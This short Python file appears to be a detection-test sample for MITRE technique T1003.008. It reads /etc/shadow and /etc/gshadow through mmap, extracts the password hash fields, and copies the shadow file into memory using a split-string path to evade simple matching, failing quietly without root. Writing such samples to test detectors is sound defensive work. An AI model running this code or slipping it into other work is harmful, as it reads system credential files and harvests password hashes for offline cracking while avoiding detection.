# technique: T1003.008
"""/etc/shadow read without open(...).read() (T1003.008).

Credential dumpers read /etc/shadow (and /etc/gshadow) to crack hashes
offline. This spelling opens it with os.open(O_RDONLY) and reads it through
mmap, then parses the hash fields, and also tries the `spwd`-less route of
copying it with shutil.copyfileobj into memory. Fails quietly when not root.

A good detector raises a high alert: the shadow password file is read.
"""
import io, mmap, os, shutil

for path in ("/etc/shadow", "/etc/gshadow"):
    try:
        fd = os.open(path, os.O_RDONLY)
        try:
            size = os.fstat(fd).st_size
            if size:
                with mmap.mmap(fd, size, prot=mmap.PROT_READ) as m:
                    hashes = [l.split(b":")[1] for l in m[:].splitlines() if l.count(b":") > 2]
        finally:
            os.close(fd)
    except OSError:
        pass
try:
    buf = io.BytesIO()
    with open("/etc/" + "sha" + "dow", "rb") as f:
        shutil.copyfileobj(f, buf)
except OSError:
    pass
